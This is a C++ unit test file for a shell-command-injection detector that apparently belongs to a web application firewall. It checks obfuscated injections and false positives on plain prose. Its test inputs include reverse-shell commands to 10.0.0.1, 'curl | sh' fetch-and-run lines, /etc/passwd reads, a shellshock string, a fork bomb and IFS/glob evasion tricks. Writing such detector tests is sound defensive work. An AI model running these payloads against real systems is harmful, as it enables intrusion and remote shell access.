#include "detect/shell.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

#include "detect/shell_lexer.hpp"
#include "detect/shell_words.hpp"

using gird::detect::Sign;
using gird::detect::Signs;

namespace {

// All signs of the text, each behind a space.
std::string seen(std::string_view text) {
  Signs signs;
  gird::detect::shell_signs(text, signs);
  std::string names;
  for (const Sign& sign : signs.all()) names += " " + std::string(sign.name.substr(6));
  return names;
}

std::string word(std::string_view text) {
  return std::string(gird::detect::shell::read_word(text, 0).text());
}

bool has(std::string_view text, std::string_view sign) {
  return (seen(text) + " ").contains(" " + std::string(sign) + " ");
}

std::string many(std::string_view piece) {
  std::string text;
  while (text.size() < (std::size_t{1} << 20U)) text += piece;
  return text;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(shell)

BOOST_AUTO_TEST_CASE(quotes_and_empty_expansions_vanish_from_words) {
  for (const std::string_view text :
       {"cat",      "c''at",   "c\"\"at",   "c\\at",      "'cat'",      "c$@at",      "c$*at",
        "c$9at",    "c${@}at", "ca``t",     "$'cat'",     "$'\\x63at'", "$'\\143at'", "${x:-cat}",
        "${x-cat}", "c$()at",  "cat$IFS-x", "cat${IFS}x", "cat;x",      "cat+/etc",   "c\\\nat"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(word(text) == "cat"); }
  }
}

BOOST_AUTO_TEST_CASE(slices_of_paths_are_slashes) {
  BOOST_TEST(word("${HOME:0:1}etc${PATH:0:1}passwd") == "/etc/passwd");
}

BOOST_AUTO_TEST_CASE(a_quote_that_is_not_closed_ends_the_word) {
  BOOST_TEST(word("it's") == "it");
  BOOST_TEST(word("\"x") == "");
}

BOOST_AUTO_TEST_CASE(patterns_fit_names) {
  using gird::detect::shell::fits;
  BOOST_TEST(fits("c?t", "cat"));
  BOOST_TEST(fits("wh*m?", "whoami"));
  BOOST_TEST(fits("[b-d]at", "cat"));
  BOOST_TEST(fits("[!x]at", "cat"));
  BOOST_TEST(!fits("[!c]at", "cat"));
  BOOST_TEST(!fits("c?", "cat"));
  BOOST_TEST(!fits("[", "cat"));
  BOOST_TEST(fits("*", ""));
}

BOOST_AUTO_TEST_CASE(substitutions) {
  BOOST_TEST(has("$(whoami)", "substitution"));
  BOOST_TEST(has("a\"$(cat /etc/passwd)\"", "substitution"));
  BOOST_TEST(has("fix $(id) build", "substitution-bare"));
  BOOST_TEST(has("a$(echo x)b", "substitution-joined"));
  BOOST_TEST(has("`/usr/bin/id`", "backtick"));
  BOOST_TEST(has("`cat /etc/passwd`", "backtick"));
  BOOST_TEST(has("a`wget -qO- a.example`.txt", "backtick"));
  BOOST_TEST(has("x=`date`", "backtick-bare"));
  BOOST_TEST(has("<(cat file)", "process-substitution"));
}

BOOST_AUTO_TEST_CASE(separators_in_every_quotation) {
  for (const std::string_view text :
       {"; cat /etc/passwd", "x; cat /etc/passwd", "x'; cat /etc/passwd", "x\"; cat /etc/passwd",
        "x|nc -e /bin/sh 10.0.0.1 4444", "x || ping -c 3 10.0.0.1", "x && wget http://a.example",
        "& ls -la", "x;A=b cat /etc/passwd", "x;(cat /etc/passwd)", "x;</etc/passwd cat",
        "x;sudo cat /etc/passwd", "x;timeout 5 cat /etc/passwd", "x;if cat /etc/passwd",
        "x;sleep 5", "x;exec cat /etc/passwd", "x;eval cat /etc/passwd", "x;id>/tmp/x",
        "x;/usr/bin/id"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(has(text, "chain")); }
  }
  BOOST_TEST(has("one two three; cat /etc/passwd", "chain-inside"));
  BOOST_TEST(has("x\ncat /etc/passwd", "line"));
  BOOST_TEST(has("'\\n/bin/ls -al\\n'", "line"));
  BOOST_TEST(has("\\nid\\n", "line"));
  BOOST_TEST(has(";$u cat /etc$u/passwd", "disguised"));
  BOOST_TEST(has("a;id\\n", "chain-bare"));
  BOOST_TEST(has(";id", "chain-bare"));
  BOOST_TEST(has("name'; id #", "chain-bare"));
  BOOST_TEST(has("x|sh", "pipe-to-shell"));
  BOOST_TEST(has("curl -s a.example/x | sh", "pipe-to-shell-inside"));
}

BOOST_AUTO_TEST_CASE(names_that_hide) {
  BOOST_TEST(has(";c''at /etc/passwd", "disguised"));
  BOOST_TEST(has(";c$@at /etc/passwd", "disguised"));
  BOOST_TEST(has("wh\\oami", "disguised"));
  BOOST_TEST(has(";/\?\?\?/c?t /etc/passwd", "glob"));
  BOOST_TEST(has(";/bi?/c*t x", "glob"));
  BOOST_TEST(has("/etc/p?sswd", "file-pattern"));
  BOOST_TEST(has(";cat$IFS/etc/passwd", "ifs"));
  BOOST_TEST(has("ls${IFS}-la", "ifs"));
  BOOST_TEST(has("{cat,/etc/passwd}", "brace-list"));
  BOOST_TEST(has("a=nc&&$a -l 80", "assigned"));
  BOOST_TEST(has("cat ${PATH:0:1}etc", "slice"));
  BOOST_TEST(has("alias x='curl'", "alias"));
}

BOOST_AUTO_TEST_CASE(forms_of_a_shell_alone) {
  BOOST_TEST(has("() { :;}; id", "shellshock"));
  BOOST_TEST(has(":(){ :|:& };:", "bomb"));
  BOOST_TEST(has("cat<<<id", "here-string"));
  BOOST_TEST(has("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "socket"));
  BOOST_TEST(has("cat</etc/passwd", "input"));
  BOOST_TEST(has("system('cat /etc/passwd')", "call"));
  BOOST_TEST(has("exec('whoami')", "call-bare"));
  BOOST_TEST(has("nc -lvp 4444 -e /bin/sh", "command-sure"));
  BOOST_TEST(has("${PATH#{}/}", "expansion"));
  BOOST_TEST(has(";.shell id", "dot-command"));
  BOOST_TEST(has("bash -c \"id\"", "command-sure"));
  BOOST_TEST(has("/bin/unxz -c /tmp/x.xz", "command-path"));
}

// Core Rule Set 4790: a command that is run by the shell that runs already.
BOOST_AUTO_TEST_CASE(crs_4790_the_shells_own_name) {
  BOOST_TEST(has("8.8.8.8;$0 -c whoami", "itself"));
}

// Core Rule Set 3392 and 4354: rules for command lines spoke of ordinary sentences.
BOOST_AUTO_TEST_CASE(crs_3392_and_4354_sentences) {
  for (const std::string_view text :
       {"I was late; time flies when you are busy",
        "Please sort this out; more details will follow", "Meet us at noon; who is coming & when?",
        "The cat sat on the mat; find it a better place", "Salt & pepper, bread & butter",
        "We came; we saw; we left", "Cut & paste, drag & drop", "What is this; a test?",
        "First kill the engine; then watch the dial"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

// Core Rule Set 3932 and 3643: 932235 found the names of programs behind a semicolon or a newline.
BOOST_AUTO_TEST_CASE(crs_3932_and_3643_names_behind_separators) {
  for (const std::string_view text :
       {"Dear team;\ntime is short", "apples;\nmore apples", "red; green; set of three",
        "Hello,\n\nsplit the bill and join us", "a list:\nfind the keys\nclean the kitchen"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

// Core Rule Set 3511 and 3631: 932236 found two-letter names at the start of a value.
BOOST_AUTO_TEST_CASE(crs_3511_and_3631_short_names_at_the_start) {
  for (const std::string_view text :
       {"at the station", "As we said", "id 12", "more or less", "time to go home", "who knows",
        "find your way", "top of the morning", "w", "cd player", "ps. I love you",
        "find me; I hide"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

// Core Rule Set 3272: words in a text of several lines.
BOOST_AUTO_TEST_CASE(crs_3272_lines_of_prose) {
  BOOST_TEST(seen("Agenda\nwho does what\nwrite the report\nmail it to everyone\ndate and time") ==
             "");
}

BOOST_AUTO_TEST_CASE(what_only_looks_like_one) {
  for (const std::string_view text : {"",
                                      "hello; time he came",
                                      "O'Brien & Sons",
                                      "use foo | bar",
                                      "?a=1&id=3&sort=asc&type=x",
                                      "$(document).ready(f)",
                                      "$(file).hide()",
                                      "f(a, &type, &size);",
                                      "if (a && find(b)) { x; }",
                                      "x; file = -1",
                                      "the `name` of it",
                                      "don't; isn't",
                                      "a|b|c",
                                      "id;name;type",
                                      "{id, name}",
                                      "{name,kind}",
                                      "function() { x; };",
                                      "<<<<<<< HEAD",
                                      "cat</b>",
                                      "AT&T",
                                      "the $IFS variable",
                                      "it costs; $0.50"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

// Told at high only: a name of a program, or a command between the words of a text.
BOOST_AUTO_TEST_CASE(prose_that_quotes_commands) {
  BOOST_TEST(seen("use `ls -la` to list") == " backtick-prose");
  BOOST_TEST(seen("see `find` there") == " backtick-name");
  BOOST_TEST(seen("$ cat notes | grep -i x") == " chain-loose");
}

BOOST_AUTO_TEST_CASE(long_texts_take_linear_time) {
  for (const std::string_view piece : {";",
                                       ";id ",
                                       ";id '",
                                       "`",
                                       "$(",
                                       "$((",
                                       "{a,",
                                       "(",
                                       "() {",
                                       "<<<",
                                       "/e*",
                                       "a=b&&$a",
                                       "${",
                                       "${x:",
                                       "'",
                                       "\"",
                                       "\\",
                                       "$IFS",
                                       ";sudo ",
                                       ";' ",
                                       "|/\?\?\?/\?\?",
                                       "; ",
                                       "\n",
                                       "alias a=",
                                       ";aaaaaaaaaaaaaaaa"}) {
    BOOST_TEST_CONTEXT(piece) {
      seen(many(piece));
      BOOST_TEST(true);
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
